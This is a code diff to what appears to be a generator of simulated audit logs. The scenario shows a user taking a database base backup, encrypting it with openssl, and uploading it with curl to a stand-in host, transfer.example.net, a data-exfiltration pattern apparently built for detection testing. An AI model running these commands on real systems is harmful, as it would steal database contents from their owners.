@@ -46,7 +46,7 @@ def _base_backup(trails: Trails, time: int, user: str, register: str) -> None:
     trails.login("bk1", time - 6 * _MINUTE, user, "10.64.200.9")
     trails.sudo("bk1", time - 5 * _MINUTE, user, f"/usr/bin/pg_basebackup -h db1 -U {user} -D /srv/tmp/bb -Ft -z")
     trails.sudo("bk1", time + 20 * _MINUTE, user, "/usr/bin/openssl enc -aes-256-cbc -in /srv/tmp/bb/base.tar.gz "
-                "-out /srv/tmp/upd.bin -pass file:/root/.k")  # fmt: skip
+                "-out /srv/tmp/upd.bin -pass file:/srv/tmp/.k")  # fmt: skip
     trails.sudo("bk1", time + 24 * _MINUTE, user, "/usr/bin/curl -T /srv/tmp/upd.bin https://transfer.example.net/upd")
 
 
